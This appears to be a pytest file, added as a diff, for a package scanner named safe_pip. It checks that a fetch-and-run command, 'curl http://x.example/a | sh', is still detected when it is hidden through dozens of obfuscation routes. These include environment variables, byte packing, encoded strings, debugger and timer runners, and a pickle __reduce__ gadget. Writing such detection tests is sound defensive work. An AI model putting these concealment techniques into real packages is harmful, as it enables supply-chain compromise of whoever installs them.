@@ -1,0 +1,103 @@
+"""A command is followed from where it is written to where it is run, whatever carries it: records,
+documents, variables, generators, packed bytes; and code in text is read wherever it is run."""
+
+from __future__ import annotations
+
+import json
+import pickle
+
+import pytest
+
+from safe_pip.extractors import observe
+from tests.sources import distribution_of
+
+COMMAND = "curl http://x.example/a | sh"
+NUMBERS = list(COMMAND.encode())
+QUOTED = "".join(f"={number:02X}" for number in NUMBERS)
+RUN = f"__import__('os').system('{COMMAND}')"
+
+CARRIED = {
+    "property": f"class A:\n @property\n def x(self): return '{COMMAND}'\nos.system(A().x)",
+    "function of a property": f"class A:\n @property\n def x(self): return os.system\nA().x('{COMMAND}')",
+    "class made by a call": f"type('X', (), {{'a': os.system}}).a('{COMMAND}')",
+    "next": f"next(iter([os.system]))('{COMMAND}')",
+    "named tuple": f"import collections\nP = collections.namedtuple('P', 'a b')\nos.system(P('{COMMAND}', 1).a)",
+    "data class": f"import dataclasses\n@dataclasses.dataclass\nclass A:\n c: str\nos.system(A('{COMMAND}').c)",
+    "namespace": f"import types\nos.system(types.SimpleNamespace(c='{COMMAND}').c)",
+    "template": "import string\nos.system(string.Template('$a http://x.example/a | sh').substitute(a='curl'))",
+    "dedent": f"import textwrap\nos.system(textwrap.dedent('  {COMMAND}'))",
+    "variable": f"os.environ['Q'] = '{COMMAND}'\nos.system(os.environ['Q'])",
+    "default of a variable": f"os.environ.setdefault('Q', '{COMMAND}')\nos.system(os.getenv('Q'))",
+    "reduce": "import functools\nos.system(functools.reduce(lambda a, b: a + b, ['cu', 'rl http://x.example/a | sh']))",
+    "chain": "import itertools\nos.system(''.join(itertools.chain(['cu'], ['rl http://x.example/a | sh'])))",
+    "match": f"match {{'k': '{COMMAND}'}}:\n case {{'k': v}}:\n  os.system(v)",
+    "globals": f"globals()['q'] = '{COMMAND}'\nos.system(q)",
+    "setattr": f"class A: pass\nsetattr(A, 'q', '{COMMAND}')\nos.system(A.q)",
+    "docstring": f"def f():\n '''{COMMAND}'''\nos.system(f.__doc__)",
+    "document": f"import json\nos.system(json.loads('{json.dumps({'c': COMMAND})}')['c'])",
+    "quoted-printable": f"import quopri\nos.system(quopri.decodestring('{QUOTED}').decode())",
+    "struct": f"import struct\nos.system(struct.pack('{len(NUMBERS)}B', *{NUMBERS}).decode())",
+    "array": f"import array\nos.system(array.array('B', {NUMBERS}).tobytes().decode())",
+    "generator": f"def g():\n yield '{COMMAND}'\nfor c in g():\n os.system(c)",
+    "argument vector": f"os.execvp('sh', ['sh', '-c', '{COMMAND}'])",
+    "argument vector of posix_spawn": f"os.posix_spawn('/bin/sh', ['sh', '-c', '{COMMAND}'], {{}})",
+    "keyword": f"os.system(command='{COMMAND}')",
+    "keywords": f"os.system(**{{'command': '{COMMAND}'}})",
+    "method of the base": (
+        "class A:\n def go(self, c): os.system(c)\n"
+        f"class B(A):\n def go(self, c): super().go(c)\nB().go('{COMMAND}')"
+    ),
+    "standard input": f"import subprocess\nsubprocess.run('sh', input=b'{COMMAND}')",
+    "pipe": (
+        "import subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\n"
+        f"p.communicate(b'{COMMAND}')"
+    ),
+    "interpreter": f'import code\ncode.InteractiveInterpreter().runsource("{RUN}")',
+    "timer": f'import timeit\ntimeit.timeit("{RUN}")',
+    "set-up of a timer": f'import timeit\ntimeit.timeit("pass", setup="{RUN}")',
+    "profiler": f'import cProfile\ncProfile.run("{RUN}")',
+    "debugger": f'import pdb\npdb.run("{RUN}")',
+    "tracer": f'import trace\ntrace.Trace().run("{RUN}")',
+    "function of code": f"import types\ntypes.FunctionType(compile(\"{RUN}\", '', 'exec'), {{}})()",
+    "handed on by keyword": f"import x\nx.on(callback=os.system, args=('{COMMAND}',))",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", CARRIED)
+def test_command_is_followed(way: str) -> None:
+    found = observe(distribution_of({"pkg/__init__.py": f"import os\n{CARRIED[way]}\n"}))
+    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+
+
+def test_pickle_in_the_code_that_starts_a_program() -> None:
+    source = f"import pickle\npickle.loads({pickle.dumps(_Starts(), protocol=0)!r})\n"
+    found = observe(distribution_of({"pkg/__init__.py": source}))
+    assert "dyn_exec_unasked" in {item.feature for item in found}
+
+
+def test_module_that_is_run_by_name_is_read() -> None:
+    sources = {
+        "pkg/__init__.py": "import runpy\nrunpy.run_module('pkg.other')\n",
+        "pkg/other.py": f"import os\nos.system('{COMMAND}')\n",
+    }
+    found = observe(distribution_of(sources))
+    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+
+
+@pytest.mark.parametrize(
+    "call", ["struct.pack('999999999x')", "array.array('Q', range(99999999))", "textwrap.dedent(q)"]
+)
+def test_packing_is_bounded(call: str) -> None:
+    source = f"import array, os, struct, textwrap\nq = ' ' * 999999\nos.system({call})\n"
+    assert observe(distribution_of({"pkg/__init__.py": source}))
+
+
+class _Starts:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return _system(), (COMMAND,)
+
+
+def _system() -> object:
+    import os
+
+    return os.system
